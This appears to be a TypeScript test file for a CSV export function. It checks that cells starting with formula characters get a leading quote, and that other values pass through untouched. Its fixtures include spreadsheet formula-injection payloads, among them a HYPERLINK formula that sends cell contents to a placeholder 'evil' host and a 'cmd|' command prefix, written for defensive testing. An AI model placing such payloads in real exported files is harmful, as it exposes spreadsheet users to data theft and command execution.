import { parse } from 'csv-parse/sync';
import { toCsv } from './csv';

describe('toCsv', () => {
  const cells = (text: string) => parse(text.replace(/^\uFEFF/, ''));

  it('puts a quote before a text cell a spreadsheet would run as a formula', () => {
    const formulas = ['=HYPERLINK("http://evil/?x="&A1,"点我")', '+1+cmd|', '-2+3', '@SUM(A1)', '\tx', '\rx', '＝1+1'];
    const text = toCsv({ header: ['value'], rows: formulas.map((f) => [f]) });
    expect(cells(text).slice(1)).toEqual(formulas.map((f) => [`'${f}`]));
  });

  it('keeps quoting right around the escaped cell', () => {
    const text = toCsv({ header: ['a', 'b'], rows: [['=1,"2"', 'next']] });
    expect(text).toBe('\uFEFFa,b\n"\'=1,""2""",next\n');
  });

  it('leaves Chinese text, numbers (negative ones too), empty cells and inner signs alone', () => {
    const text = toCsv({ header: ['name', 'n', 'rate', 'none'], rows: [['建外街道 a=b', -3, '0.9750', null]] });
    expect(text).toBe('\uFEFFname,n,rate,none\n建外街道 a=b,-3,0.9750,\n');
  });
});
